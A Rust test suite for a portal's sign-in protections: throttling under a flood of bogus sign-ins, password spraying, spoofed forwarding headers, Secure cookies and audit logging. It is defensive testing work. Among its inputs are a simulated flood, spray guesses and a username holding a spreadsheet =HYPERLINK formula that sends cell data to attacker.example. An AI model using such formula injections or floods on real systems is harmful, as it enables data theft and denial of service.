//! Sign-in under attack (security review F2, F3, F12, F17, F10's Secure cookies):
//! a flood of bogus sign-ins neither starves the portal nor keeps a real user out,
//! guessing from one address slows that address down without locking the account
//! anywhere else, an admin can unlock, failures are audited once per window, an
//! attempt as `system` cannot pose as the portal, and forwarding headers are
//! believed only from trusted proxies.

use crate::helpers::*;
use app::model::Role;
use reqwest::header::{HeaderMap, HeaderValue};
use reqwest::StatusCode;
use sqlx::PgPool;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

const PROXIED: &[(&str, &str)] = &[("PORTAL_TRUSTED_PROXIES", "127.0.0.1")];
const ATTACKER: &str = "203.0.113.66";
const OFFICE: &str = "198.51.100.7";

/// A browser whose requests reach the portal through the trusted proxy at
/// 127.0.0.1 on behalf of `address`.
fn browser_from(app: &TestApp, address: &str) -> Browser {
    let mut headers = HeaderMap::new();
    headers.insert("origin", HeaderValue::from_str(&app.base).unwrap());
    headers.insert("x-forwarded-for", HeaderValue::from_str(address).unwrap());
    Browser {
        http: reqwest::Client::builder()
            .cookie_store(true)
            .redirect(reqwest::redirect::Policy::none())
            .default_headers(headers)
            .build()
            .unwrap(),
        base: app.base.clone(),
    }
}

async fn events(app: &TestApp, action: &str) -> Vec<(String, serde_json::Value)> {
    sqlx::query_as("SELECT actor, details FROM audit_events WHERE action = $1 ORDER BY id")
        .bind(action)
        .fetch_all(&app.pool)
        .await
        .unwrap()
}

#[sqlx::test(migrations = "../migrations")]
async fn a_flood_of_bogus_sign_ins_neither_starves_the_portal_nor_keeps_a_real_user_out(
    pool: PgPool,
) {
    // Served as in production: a multi-threaded runtime on both cores and a pool
    // of the portal's size, not the test's single thread, whose own scheduling
    // would be measured instead of the portal.
    let options = (*pool.connect_options()).clone();
    tokio::task::spawn_blocking(move || {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("a runtime");
        rt.block_on(async move {
            let pool = sqlx::postgres::PgPoolOptions::new()
                .max_connections(16)
                .acquire_timeout(Duration::from_secs(3))
                .connect_with(options)
                .await
                .expect("a pool");
            let app = spawn_app_with(pool, PROXIED).await;
            flood(&app).await;
        });
    })
    .await
    .expect("the flood test ran");
}

async fn flood(app: &TestApp) {
    app.add_user("sam", Role::Supervisor).await;
    let flood_started = Instant::now();
    let answered = Arc::new(AtomicUsize::new(0));
    let refused_at_once = Arc::new(AtomicUsize::new(0));

    // 200 concurrent sign-ins with distinct usernames from one address, then 200
    // more, each from an address of its own; one client sends them all, as one
    // attacking machine would.
    let http = reqwest::Client::builder()
        .pool_max_idle_per_host(0)
        .build()
        .unwrap();
    let mut flood = Vec::new();
    for i in 0..400 {
        let (user, from) = if i < 200 {
            (format!("nouser{i}"), ATTACKER.to_string())
        } else {
            (format!("spray{i}"), format!("203.0.114.{}", i - 199))
        };
        let http = http.clone();
        let url = format!("{}/api/auth/sign_in", app.base);
        let origin = app.base.clone();
        let (answered, refused) = (answered.clone(), refused_at_once.clone());
        flood.push(tokio::spawn(async move {
            let r = http
                .post(url)
                .header("origin", origin)
                .header("x-forwarded-for", from)
                .form(&[("username", user.as_str()), ("password", "guess")])
                .send()
                .await
                .expect("an answer");
            answered.fetch_add(1, Ordering::SeqCst);
            if r.status() == StatusCode::TOO_MANY_REQUESTS {
                refused.fetch_add(1, Ordering::SeqCst);
            }
            r.status()
        }));
    }

    // While it runs, the portal answers its health check within a second, and
    // the pool is never used up.
    let health = app.browser();
    let mut slowest = Duration::ZERO;
    let mut most_in_use = 0u32;
    let mut checks = 0;
    let real_user = browser_from(app, OFFICE);
    let mut real_sign_in: Option<(Duration, usize)> = None;
    let mut tries = 0;
    let deadline = Instant::now() + Duration::from_secs(120);
    while answered.load(Ordering::SeqCst) < 400 || checks < 5 || real_sign_in.is_none() {
        assert!(Instant::now() < deadline, "the flood did not end");
        let t = Instant::now();
        let r = health.get("/healthz").await;
        let took = t.elapsed();
        assert_eq!(r.status(), StatusCode::OK, "healthz during the flood");
        assert!(took < Duration::from_secs(1), "healthz took {took:?}");
        slowest = slowest.max(took);
        most_in_use = most_in_use.max(app.pool.size() - app.pool.num_idle() as u32);
        checks += 1;
        // The real user signs in from their own address during the flood; like a
        // person, they try again when told the portal is busy.
        if real_sign_in.is_none() {
            tries += 1;
            let r = real_user.sign_in("sam", PASSWORD).await;
            match r.status() {
                StatusCode::OK => real_sign_in = Some((flood_started.elapsed(), tries)),
                StatusCode::TOO_MANY_REQUESTS => {}
                other => panic!("the real user got {other}: {}", r.text().await.unwrap()),
            }
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let statuses: Vec<StatusCode> = futures_join(flood).await;
    let flood_took = flood_started.elapsed();
    let (at, tries) = real_sign_in.expect("the real user signed in during the flood");
    assert_eq!(real_user.me().await.as_deref(), Some("sam"));
    let max_connections = app.pool.options().get_max_connections();
    assert!(
        most_in_use < max_connections,
        "the pool was exhausted ({most_in_use} of {max_connections} in use)"
    );
    let unauthorized = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    let refused = refused_at_once.load(Ordering::SeqCst);
    assert_eq!(unauthorized + refused, 400, "{statuses:?}");
    // Figures for the record (the closing note quotes them).
    eprintln!(
        "FIGURES sign-in flood: 400 bogus sign-ins answered in {:.2} s ({:.0}/s): {} checked and refused (401), {} refused at once (429); \
         real user signed in after {:.2} s in {} tries; /healthz slowest {} ms over {} checks; pool at most {} of {} connections in use",
        flood_took.as_secs_f64(),
        400.0 / flood_took.as_secs_f64(),
        unauthorized,
        refused,
        at.as_secs_f64(),
        tries,
        slowest.as_millis(),
        checks,
        most_in_use,
        max_connections
    );
    // The flood did not flood the audit trail: one failure event per username
    // and window at most, and one throttling event per address and window.
    let failed = events(app, "auth.sign_in_failed").await.len();
    assert!(failed <= unauthorized, "{failed} > {unauthorized}");
}

async fn futures_join(handles: Vec<tokio::task::JoinHandle<StatusCode>>) -> Vec<StatusCode> {
    let mut out = Vec::with_capacity(handles.len());
    for h in handles {
        out.push(h.await.expect("the task ended"));
    }
    out
}

#[sqlx::test(migrations = "../migrations")]
async fn a_supervisor_slowed_down_by_guesses_from_one_address_signs_in_from_another(pool: PgPool) {
    let app = spawn_app_with(pool, PROXIED).await;
    app.add_user("sam", Role::Supervisor).await;
    let attacker = browser_from(&app, ATTACKER);
    // Three wrong guesses are free; the fourth must wait.
    for _ in 0..3 {
        assert_eq!(
            attacker.sign_in("sam", "not the password!").await.status(),
            StatusCode::UNAUTHORIZED
        );
    }
    // Five more failures on record (as if the guessing went on) make the next
    // wait 64 s, long enough for what follows to run on a busy machine.
    sqlx::query(
        "INSERT INTO sign_in_failures (username, address, failed_at) \
         SELECT 'sam', $1, now() FROM generate_series(1, 5)",
    )
    .bind(ATTACKER)
    .execute(&app.pool)
    .await
    .unwrap();
    let mut throttled = 0;
    for _ in 0..5 {
        let (status, body) = error_text(attacker.sign_in("sam", "still guessing").await).await;
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
        assert_eq!(body["Throttled"]["per_account"], true, "{body}");
        throttled += 1;
    }
    // Even the right password waits at the guessing address: it is slowed, not
    // locked (the wait doubles with each failure, and is capped at 15 minutes)...
    let (status, body) = error_text(attacker.sign_in("sam", PASSWORD).await).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    let seconds = body["Throttled"]["seconds"].as_i64().unwrap();
    assert!((2..=64).contains(&seconds), "{body}");
    // ...and from another address sam signs in at once.
    let office = browser_from(&app, OFFICE);
    assert_eq!(
        office.sign_in("sam", PASSWORD).await.status(),
        StatusCode::OK
    );
    assert_eq!(office.me().await.as_deref(), Some("sam"));

    // The message says what to do.
    let text = app::error::AppError::Throttled {
        seconds: 2,
        per_account: true,
    }
    .to_string();
    assert!(text.contains("another address"), "{text}");

    // Audited once per window, not once per attempt: one failure event for sam,
    // one throttling event for the address; the summary comes when the window
    // has closed, with the count.
    let failed = events(&app, "auth.sign_in_failed").await;
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert_eq!(failed[0].0, "anon:sam");
    assert_eq!(failed[0].1["address"], ATTACKER);
    let refused = events(&app, "auth.sign_in_throttled").await;
    assert_eq!(refused.len(), 1, "{refused:?}");
    assert_eq!(refused[0].1["address"], ATTACKER);
    let window = chrono::Duration::minutes(15);
    let later = chrono::Utc::now() + window + chrono::Duration::minutes(1);
    let written = app::ssr::throttle::summarize_closed_windows(&app.pool, window, later)
        .await
        .unwrap();
    assert_eq!(written, 2);
    let summary = events(&app, "auth.sign_in_failures_summarized").await;
    assert_eq!(summary[0].1["failures"], 3);
    assert_eq!(summary[0].1["addresses"], serde_json::json!([ATTACKER]));
    let summary = events(&app, "auth.sign_in_throttles_summarized").await;
    assert_eq!(summary[0].1["refused"], throttled + 1);
    // Summarised once only.
    assert_eq!(
        app::ssr::throttle::summarize_closed_windows(&app.pool, window, later)
            .await
            .unwrap(),
        0
    );

    // An admin unlocks sam: the wait at the guessing address is gone too.
    let ada = app.signed_in("ada", Role::Admin).await;
    let r = ada.call("/api/users/unlock", &[("username", "sam")]).await;
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    assert_eq!(r.text().await.unwrap(), "8");
    assert_eq!(
        attacker.sign_in("sam", PASSWORD).await.status(),
        StatusCode::OK
    );
    let unlocked = events(&app, "user.unlocked").await;
    assert_eq!(unlocked[0].0, "ada");
    assert_eq!(unlocked[0].1["failures_forgotten"], 8);
}

#[sqlx::test(migrations = "../migrations")]
async fn guessing_many_accounts_from_one_address_slows_that_address_only(pool: PgPool) {
    let app = spawn_app_with(pool, PROXIED).await;
    app.add_user("sam", Role::Supervisor).await;
    let attacker = browser_from(&app, ATTACKER);
    // Password spraying: one guess per account. Ten are free.
    for i in 0..10 {
        assert_eq!(
            attacker
                .sign_in(&format!("user{i}"), "Winter2026!")
                .await
                .status(),
            StatusCode::UNAUTHORIZED
        );
    }
    // Five more on record (as if the spraying went on) make the next wait 32 s
    // rather than the first second, so a busy machine cannot outlast it.
    sqlx::query(
        "INSERT INTO sign_in_failures (username, address, failed_at) \
         SELECT 'user' || n, $1, now() FROM generate_series(11, 15) AS n",
    )
    .bind(ATTACKER)
    .execute(&app.pool)
    .await
    .unwrap();
    let (status, body) = error_text(attacker.sign_in("user16", "Winter2026!").await).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    assert_eq!(body["Throttled"]["per_account"], false);
    assert_eq!(
        browser_from(&app, OFFICE)
            .sign_in("sam", PASSWORD)
            .await
            .status(),
        StatusCode::OK
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn forwarding_headers_are_believed_only_from_trusted_proxies(pool: PgPool) {
    // No trusted proxy: X-Forwarded-For cannot make a guesser look like many.
    let app = spawn_app(pool).await;
    app.add_user("sam", Role::Supervisor).await;
    for i in 0..3 {
        let b = browser_from(&app, &format!("198.51.100.{i}"));
        assert_eq!(
            b.sign_in("sam", "wrong password").await.status(),
            StatusCode::UNAUTHORIZED
        );
    }
    let b = browser_from(&app, "198.51.100.99");
    assert_eq!(
        b.sign_in("sam", "wrong password").await.status(),
        StatusCode::TOO_MANY_REQUESTS
    );
    let failed = events(&app, "auth.sign_in_failed").await;
    assert_eq!(failed[0].1["address"], "127.0.0.1");
}

#[sqlx::test(migrations = "../migrations")]
async fn secure_cookies_whenever_the_client_came_over_https(pool: PgPool) {
    let app = spawn_app_with(pool, PROXIED).await;
    app.add_user("sam", Role::Supervisor).await;
    let sign_in = |proto: Option<&'static str>, via: &str| {
        let mut headers = HeaderMap::new();
        headers.insert("origin", HeaderValue::from_str(&app.base).unwrap());
        headers.insert("x-forwarded-for", HeaderValue::from_str(via).unwrap());
        if let Some(p) = proto {
            headers.insert("x-forwarded-proto", HeaderValue::from_static(p));
        }
        let http = reqwest::Client::builder()
            .default_headers(headers)
            .build()
            .unwrap();
        let url = format!("{}/api/auth/sign_in", app.base);
        async move {
            let r = http
                .post(url)
                .form(&[("username", "sam"), ("password", PASSWORD)])
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), StatusCode::OK);
            r.headers()
                .get_all("set-cookie")
                .iter()
                .map(|v| v.to_str().unwrap().to_string())
                .collect::<Vec<_>>()
                .join("\n")
        }
    };
    let https = sign_in(Some("https"), OFFICE).await;
    assert!(
        https.contains("portal_session=") && https.contains("Secure"),
        "{https}"
    );
    let http = sign_in(Some("http"), "198.51.100.8").await;
    assert!(!http.contains("Secure"), "{http}");
    let plain = sign_in(None, "198.51.100.9").await;
    assert!(!plain.contains("Secure"), "{plain}");

    // An untrusted peer claiming https is not believed either.
    let direct = spawn_app(app.pool.clone()).await;
    let mut headers = HeaderMap::new();
    headers.insert("origin", HeaderValue::from_str(&direct.base).unwrap());
    headers.insert("x-forwarded-proto", HeaderValue::from_static("https"));
    let r = reqwest::Client::builder()
        .default_headers(headers)
        .build()
        .unwrap()
        .post(format!("{}/api/auth/sign_in", direct.base))
        .form(&[("username", "sam"), ("password", PASSWORD)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r
        .headers()
        .get_all("set-cookie")
        .iter()
        .all(|v| !v.to_str().unwrap().contains("Secure")));
}

#[sqlx::test(migrations = "../migrations")]
async fn an_attempt_cannot_pose_as_the_portal_or_write_a_formula_as_actor(pool: PgPool) {
    let app = spawn_app(pool).await;
    let b = app.browser();
    for name in [
        "system",
        "cli:root",
        "=HYPERLINK(\"https://attacker.example/?\"&F2,\"x\")",
    ] {
        assert_eq!(
            b.sign_in(name, "whatever").await.status(),
            StatusCode::UNAUTHORIZED
        );
    }
    let actors: Vec<String> = events(&app, "auth.sign_in_failed")
        .await
        .into_iter()
        .map(|(a, _)| a)
        .collect();
    assert_eq!(
        actors,
        ["anon:system", "anon:?"],
        "cli:root and the formula share the `?` key"
    );
    let spoofed: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM audit_events WHERE actor IN ('system', 'cli:root') AND action LIKE 'auth.%'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(spoofed, 0);
    let formula: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_events WHERE details::text LIKE '%HYPERLINK%' OR actor LIKE '%HYPERLINK%'")
            .fetch_one(&app.pool)
            .await
            .unwrap();
    assert_eq!(formula, 0, "attacker text is never stored");
}

#[sqlx::test(migrations = "../migrations")]
async fn a_stolen_session_cannot_guess_the_current_password(pool: PgPool) {
    let app = spawn_app(pool).await;
    let thief = &app.signed_in("sam", Role::Supervisor).await;
    let change = |current: &'static str| async move {
        thief
            .call(
                "/api/account/change_password",
                &[
                    ("current_password", current),
                    ("new_password", "a brand new passphrase"),
                    ("confirm_password", "a brand new passphrase"),
                ],
            )
            .await
    };
    for guess in ["guess number one", "guess number two", "guess number three"] {
        let (status, body) = error_text(change(guess).await).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
        assert!(body.to_string().contains("Current password"), "{body}");
    }
    let (status, body) = error_text(change(PASSWORD).await).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{body}");
    let failed = events(&app, "user.password_change_failed").await;
    assert_eq!(failed.len(), 1, "audited once per window: {failed:?}");
    assert_eq!(failed[0].0, "sam");
}
